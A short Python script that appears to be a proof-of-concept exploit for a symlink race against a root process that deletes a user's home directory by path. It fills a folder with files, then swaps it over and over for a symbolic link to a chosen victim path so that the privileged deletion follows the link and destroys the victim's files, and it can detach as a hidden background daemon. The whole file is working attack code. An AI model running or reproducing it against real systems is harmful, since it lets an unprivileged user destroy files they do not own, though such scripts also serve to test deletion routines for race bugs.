"""Swap ``HOME_DIR/sub`` for a link to ``VICTIM`` and back, again and again, for ``SECONDS``.

Usage: swapper.py HOME_DIR VICTIM SECONDS [--daemon]

A root process that removes HOME_DIR by path would, at an unlucky moment, descend into the
victim folder through ``sub`` and delete its files.
"""

import os
import sys
import time
from pathlib import Path


def fill(home: Path, victim: str) -> None:
    sub = home / "sub"
    sub.mkdir(parents=True, exist_ok=True)
    for i in range(200):
        (sub / f"f{i:03d}").write_text("x")
    for name in ("link", "sub2"):
        try:
            os.symlink(victim, home / name)
        except FileExistsError:
            pass


def swap(home: Path, victim: str, seconds: float) -> None:
    sub, aside = home / "sub", home / "sub.aside"
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            os.rename(sub, aside)
            os.symlink(victim, sub)
            time.sleep(0.0005)
            os.unlink(sub)
            os.rename(aside, sub)
        except OSError:
            time.sleep(0.001)
            if not home.exists():
                return


def main() -> None:
    home, victim, seconds = Path(sys.argv[1]), sys.argv[2], float(sys.argv[3])
    if "--daemon" in sys.argv[4:]:
        if os.fork():
            return
        os.setsid()
        if os.fork():
            os._exit(0)
        fd = os.open(os.devnull, os.O_RDWR)
        for i in (0, 1, 2):
            os.dup2(fd, i)
    fill(home, victim)
    swap(home, victim, seconds)


if __name__ == "__main__":
    main()
